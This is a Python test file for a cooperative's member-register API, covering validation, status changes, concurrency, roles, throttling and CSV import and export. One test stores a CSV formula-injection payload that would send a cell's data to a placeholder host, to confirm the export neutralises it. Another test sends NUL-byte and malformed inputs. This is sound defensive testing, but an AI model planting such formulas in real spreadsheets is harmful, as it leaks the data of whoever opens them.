"""The member register through its JSON API: admission, corrections, statuses, refusals."""

import asyncio
import dataclasses
import datetime as dt

import httpx
from babel.dates import format_date

from governance.members import rules
from solidaire.app import create_app
from tests.conftest import PASSWORD, admission, bearer
from tests.test_hardening import fresh_address


async def count(client, world, headers) -> int:
    response = await client.get(f"/api/t/{world.tenant.slug}/members", headers=headers)
    return response.json()["total"]


async def test_admit_allocates_numbers_in_order_and_reads_back(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    first = (await client.post(f"/api/t/{world.tenant.slug}/members", json=admission(), headers=headers)).json()
    created = await client.post(f"/api/t/{world.tenant.slug}/members", json=admission(first_name="Luc"), headers=headers)
    assert created.status_code == 201, created.text
    second = created.json()
    assert (first["number"], second["number"]) == (1, 2)
    assert second["status"] == "active" and second["admitted_on"] is not None
    fetched = await client.get(f"/api/t/{world.tenant.slug}/members/{second['id']}", headers=headers)
    assert fetched.json() == second


async def test_bad_input_is_refused_with_a_problem_and_nothing_is_written(client, make_tenant):
    world = await make_tenant(categories=("user", "supporting"))
    headers = await bearer(client, world, "secretary")
    taken = admission()
    assert (await client.post(f"/api/t/{world.tenant.slug}/members", json=taken, headers=headers)).status_code == 201
    cases = {
        "missing field": ({k: v for k, v in admission().items() if k != "last_name"}, 400, "last_name"),
        "wrong type": (admission(shares_subscribed="many"), 400, "shares_subscribed"),
        "date format": (admission(admitted_on="22/11/2026"), 400, "admitted_on"),
        "unknown category": (admission(category="worker"), 422, "category"),
        "not a category at all": (admission(category="boss"), 400, "category"),
        "duplicate e-mail": (admission(email=taken["email"].upper()), 409, "email"),
        "paid more than subscribed": (admission(shares_paid=3), 422, "shares_paid"),
        "no qualifying share": (admission(shares_subscribed=0, shares_paid=0), 422, "shares_subscribed"),
        "unknown field": ({**admission(), "salary": 1}, 400, None),
    }
    for name, (body, status, field) in cases.items():
        response = await client.post(f"/api/t/{world.tenant.slug}/members", json=body, headers=headers)
        assert response.status_code == status, (name, response.text)
        assert response.headers["content-type"].startswith("application/problem+json"), name
        problem = response.json()
        assert problem["status"] == status and problem["title"] and problem["detail"], name
        if field:
            assert field in [error["field"] for error in problem["errors"]], (name, problem)
    assert await count(client, world, headers) == 1
    # The refused admissions took no member number: the next one is 2.
    assert (await client.post(f"/api/t/{world.tenant.slug}/members", json=admission(), headers=headers)).json()["number"] == 2


async def test_problems_speak_the_users_language(client, make_tenant):
    world = await make_tenant(categories=("user",))
    headers = await bearer(client, world, "secretary")
    url = f"/api/t/{world.tenant.slug}/members"
    french = (await client.post(url, json=admission(category="worker"), headers=headers)).json()
    english = (await client.post(url, json=admission(category="worker"), headers={**headers, "accept-language": "en-CA,en;q=0.8"})).json()
    finnish = (await client.post(url, json=admission(category="worker"), headers={**headers, "accept-language": "fi-FI"})).json()
    assert english["detail"] == "This organisation has no such member category."
    assert french["detail"] != english["detail"] and finnish["detail"] not in (english["detail"], french["detail"])


async def test_status_life_cycle_keeps_number_and_history(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    base = f"/api/t/{world.tenant.slug}/members"
    applicant = (await client.post(base, json=admission(status="applicant"), headers=headers)).json()
    assert applicant["status"] == "applicant" and applicant["admitted_on"] is None
    day = dt.date.fromisoformat(applicant["status_since"])  # today: an application is dated when entered
    steps = [
        ("active", 1, "demain", 422),  # a change is recorded once it has taken effect
        ("active", 0, "Résolution CA-2026-02", 200),
        ("suspended", 0, "Art. 58: conduite contraire aux intérêts", 200),
        ("applicant", 0, "retour", 409),
        ("suspended", 0, "déjà suspendu", 409),
        ("excluded", -1, "avant la suspension", 422),
        ("excluded", 0, "Art. 58: exclusion par les deux tiers", 200),
        ("active", 0, "réadmission", 409),
    ]
    for status, days, reason, expected in steps:
        effective_on = (day + dt.timedelta(days=days)).isoformat()
        response = await client.post(f"{base}/{applicant['id']}/status", json={"status": status, "effective_on": effective_on, "reason": reason}, headers=headers)
        assert response.status_code == expected, (status, response.text)
        if reason == "avant la suspension":  # the date in words, as the secretary reads it, not 2026-12-04
            assert format_date(day, "long", locale="fr_CA") in response.json()["errors"][0]["message"], response.text
    member = (await client.get(f"{base}/{applicant['id']}", headers=headers)).json()
    assert member["status"] == "excluded" and member["status_since"] == str(day)
    assert member["number"] == applicant["number"] and member["admitted_on"] == str(day)
    history = (await client.get(f"{base}/{applicant['id']}/history", headers=headers)).json()
    assert [(h["from_status"], h["to_status"]) for h in history] == [(None, "applicant"), ("applicant", "active"), ("active", "suspended"), ("suspended", "excluded")]
    assert history[2]["reason"].startswith("Art. 58")


async def test_search_filter_and_paginate(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    base = f"/api/t/{world.tenant.slug}/members"
    people = [("Ève", "Côté", "user"), ("Eve", "Cote", "worker"), ("Jean", "Tremblay", "user"), ("Marie", "Gagnon", "supporting")]
    for index in range(55):
        first, last, category = people[index % len(people)]
        response = await client.post(base, json=admission(first_name=first, last_name=f"{last}{index:02d}", category=category), headers=headers)
        assert response.status_code == 201
    found = (await client.get(base, params={"q": "côte"}, headers=headers)).json()
    assert found["total"] == 28 and all(m["last_name"].lower().startswith(("côté", "cote")) for m in found["items"])
    workers = (await client.get(base, params={"category": "worker", "per_page": 5, "page": 2}, headers=headers)).json()
    assert workers["total"] == 14 and len(workers["items"]) == 5 and all(m["category"] == "worker" for m in workers["items"])
    pages = [(await client.get(base, params={"page": page}, headers=headers)).json()["items"] for page in (1, 2)]
    assert len(pages[0]) == 50 and len(pages[1]) == 5
    names = [(m["last_name"], m["first_name"]) for m in pages[0] + pages[1]]
    assert names == sorted(names, key=lambda name: rules.name_key(*name, "fr")) and len({m["id"] for m in pages[0] + pages[1]}) == 55
    assert (await client.get(base, params={"page": 0}, headers=headers)).status_code == 400


async def test_concurrent_admissions_get_distinct_gapless_numbers(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    url = f"/api/t/{world.tenant.slug}/members"
    responses = await asyncio.gather(*(client.post(url, json=admission(last_name=f"Concurrent{i}"), headers=headers) for i in range(20)))
    assert [r.status_code for r in responses] == [201] * 20
    assert sorted(r.json()["number"] for r in responses) == list(range(1, 21))


async def test_concurrent_duplicate_email_admits_exactly_one(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    url = f"/api/t/{world.tenant.slug}/members"
    body = admission(email="meme.courriel@exemple.ca")
    responses = await asyncio.gather(*(client.post(url, json=body, headers=headers) for _ in range(10)))
    assert sorted(r.status_code for r in responses) == [201] + [409] * 9
    assert await count(client, world, headers) == 1


async def test_correction_is_audited_and_the_audit_log_is_for_administrators(client, make_tenant):
    world = await make_tenant()
    secretary = await bearer(client, world, "secretary")
    base = f"/api/t/{world.tenant.slug}/members"
    member = (await client.post(base, json=admission(), headers=secretary)).json()
    corrected = await client.patch(f"{base}/{member['id']}", json={"city": "Trois-Rivières", "shares_subscribed": 3}, headers=secretary)
    assert corrected.status_code == 200 and corrected.json()["city"] == "Trois-Rivières"
    assert (await client.patch(f"{base}/{member['id']}", json={"shares_paid": 9}, headers=secretary)).status_code == 422
    assert (await client.get(f"/api/t/{world.tenant.slug}/audit", headers=secretary)).status_code == 403
    administrator = await bearer(client, world, "administrator")
    events = (await client.get(f"/api/t/{world.tenant.slug}/audit", params={"object_id": member["id"]}, headers=administrator)).json()
    # The shares' figures changed through the share ledger: its operation is in the member's history too.
    assert [e["action"] for e in events] == ["member.corrected", "share.correction", "member.admitted", "share.opening"]
    assert events[0]["details"]["city"] == ["Shawinigan", "Trois-Rivières"] and events[1]["details"]["movements"][0][2:] == [2, 0]
    assert events[0]["actor_user_id"] == str(world.users["secretary"])


async def test_roles_guard_the_register(client, make_tenant):
    world = await make_tenant()
    url = f"/api/t/{world.tenant.slug}/members"
    anonymous = await client.get(url)
    assert anonymous.status_code == 401 and anonymous.headers["content-type"].startswith("application/problem+json")
    assert (await client.get(url, headers={"authorization": "Bearer forged"})).status_code == 401
    member = await bearer(client, world, "member")
    assert (await client.get(url, headers=member)).status_code == 403
    treasurer = await bearer(client, world, "treasurer")
    assert (await client.get(url, headers=treasurer)).status_code == 200
    assert (await client.post(url, json=admission(), headers=treasurer)).status_code == 403
    wrong = await client.post(f"/api/t/{world.tenant.slug}/auth/token", json={"email": world.emails["secretary"], "password": "wrong"})
    assert wrong.status_code == 422
    assert (await client.get("/api/t/no-such-coop/members", headers=treasurer)).status_code == 404


async def test_oversized_upload_is_refused(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    response = await client.post(
        f"/api/t/{world.tenant.slug}/members/import", content=b"x" * (6 * 1024 * 1024), headers={**headers, "content-type": "text/csv"}
    )
    assert response.status_code == 413 and response.json()["status"] == 413


async def test_sign_in_is_throttled(database, settings, make_tenant):
    """Password guessing is slowed: past the per-minute budget of a client address, 429."""
    world = await make_tenant()
    app = create_app(dataclasses.replace(settings, sign_in_attempts_per_minute=3), engine=database.app)
    transport = httpx.ASGITransport(app=app, client=(fresh_address(), 40000))  # (on PostgreSQL every app of the run counts together)
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver.local") as client:
        url = f"/api/t/{world.tenant.slug}/auth/token"
        guesses = [await client.post(url, json={"email": world.emails["secretary"], "password": f"guess{i}"}) for i in range(4)]
        assert [r.status_code for r in guesses] == [422, 422, 422, 429]
        assert guesses[-1].json()["status"] == 429 and int(guesses[-1].headers["retry-after"]) > 0
        assert (await client.get(f"/api/t/{world.tenant.slug}/members", headers={"authorization": "Bearer x"})).status_code == 401


async def test_hostile_input_is_refused_cleanly(client, make_tenant):
    """NUL bytes (PostgreSQL refuses them), control characters, broken files: 4xx, never 500."""
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    base = f"/api/t/{world.tenant.slug}"
    csv_headers = {**headers, "content-type": "text/csv"}
    header = "last_name,first_name,street,city,region,postal_code,category\n"
    requests = [
        client.get("/api/t/%00/members", headers=headers),
        client.get("/t/a%00b/login"),
        client.get(f"{base}/members", params={"q": "a\x00b"}, headers=headers),
        client.get(f"{base}/members", params={"category": "boss"}, headers=headers),
        client.post(f"{base}/members", json=admission(first_name="A\u0000B"), headers=headers),
        client.post(f"{base}/members", json=admission(city="Shawi\nnigan"), headers=headers),
        client.post(f"{base}/auth/token", json={"email": "a\u0000b@x.ca", "password": "x"}),
        client.post(f"{base}/members/import", content=b"last_name\n\xff\xfe\n", headers=csv_headers),
        client.post(f"{base}/members/import", content=(header + "Roy,L\x00a,1 rue A,Shawinigan,QC,G9N 1A1,user\n").encode(), headers=csv_headers),
        client.post(f"{base}/members/import", content=(header + "Roy," + "x" * 140_000 + ",1 rue A,Shawinigan,QC,G9N 1A1,user\n").encode(), headers=csv_headers),
        client.post(f"{base}/members/import", content=b"last_name,last_name\nRoy,Roy\n", headers=csv_headers),
    ]
    for response in [await request for request in requests]:
        where = (response.request.method, str(response.request.url)[:80], response.status_code)
        assert 400 <= response.status_code < 500, where
        if response.request.url.path.startswith("/api/"):
            assert response.headers["content-type"].startswith("application/problem+json"), where
    # A long name whose search key grows under Unicode normalisation still fits.
    long = await client.post(f"{base}/members", json=admission(first_name="\ufdfa" * 100, last_name="\ufdfa" * 100), headers=headers)
    assert long.status_code == 201
    assert (await client.get(f"{base}/members", headers=headers)).json()["total"] == 1


async def test_the_import_reports_every_bad_row_as_a_problem_and_imports_nothing(client, make_tenant):
    world = await make_tenant(categories=("user", "worker"))
    headers = {**await bearer(client, world, "secretary"), "content-type": "text/csv"}
    url = f"/api/t/{world.tenant.slug}/members/import"
    good = "last_name,first_name,street,city,region,postal_code,category,email,shares_subscribed\nCôté,Ève,1 rue A,Shawinigan,QC,G9N 1A1,user,eve@exemple.ca,1\n"
    bad = good + "Roy,,2 rue B,Shawinigan,QC,G9N 1A2,user,,1\nRoy,Luc,2 rue B,Shawinigan,QC,G9N 1A2,supporting,EVE@exemple.ca,1\n"
    refused = await client.post(url, params={"dry_run": "false"}, content=bad.encode(), headers=headers)
    assert refused.status_code == 422 and refused.headers["content-type"].startswith("application/problem+json")
    assert refused.json()["rows"] == 3
    assert sorted((e["line"], e["field"]) for e in refused.json()["errors"]) == [(3, "first_name"), (4, "category"), (4, "email")]
    dry = await client.post(url, content=good.encode(), headers=headers)
    assert dry.status_code == 200 and dry.json() == {"dry_run": True, "rows": 1, "imported": 0, "errors": []}
    done = await client.post(url, params={"dry_run": "false"}, content=good.encode(), headers=headers)
    assert done.json()["imported"] == 1
    again = await client.post(url, params={"dry_run": "false"}, content=good.encode(), headers=headers)
    assert again.status_code == 422 and again.json()["errors"][0]["field"] == "email"


async def test_exported_cells_cannot_run_as_spreadsheet_formulas(client, make_tenant):
    world = await make_tenant()
    headers = await bearer(client, world, "secretary")
    formula = '=HYPERLINK("http://x/?"&B2,"x")'
    assert (await client.post(f"/api/t/{world.tenant.slug}/members", json=admission(street=formula), headers=headers)).status_code == 201
    exported = (await client.get(f"/api/t/{world.tenant.slug}/register.csv", headers=headers)).text
    assert "'=HYPERLINK" in exported and ',=HYPERLINK' not in exported


async def test_a_token_expires_in_90_days_and_can_be_revoked(client, make_tenant):
    world = await make_tenant()
    issued = await client.post(f"/api/t/{world.tenant.slug}/auth/token", json={"email": world.emails["secretary"], "password": PASSWORD, "name": "script"})
    expires_at = dt.datetime.fromisoformat(issued.json()["expires_at"])
    assert dt.timedelta(days=89) < expires_at - dt.datetime.now(dt.UTC) <= dt.timedelta(days=90)
    headers = {"authorization": f"Bearer {issued.json()['token']}"}
    url = f"/api/t/{world.tenant.slug}/members"
    assert (await client.get(url, headers=headers)).status_code == 200
    assert (await client.delete(f"/api/t/{world.tenant.slug}/auth/token", headers=headers)).status_code == 204
    assert (await client.get(url, headers=headers)).status_code == 401
    administrator = await bearer(client, world, "administrator")
    actions = [e["action"] for e in (await client.get(f"/api/t/{world.tenant.slug}/audit", headers=administrator)).json()]
    assert "api_token.revoked" in actions
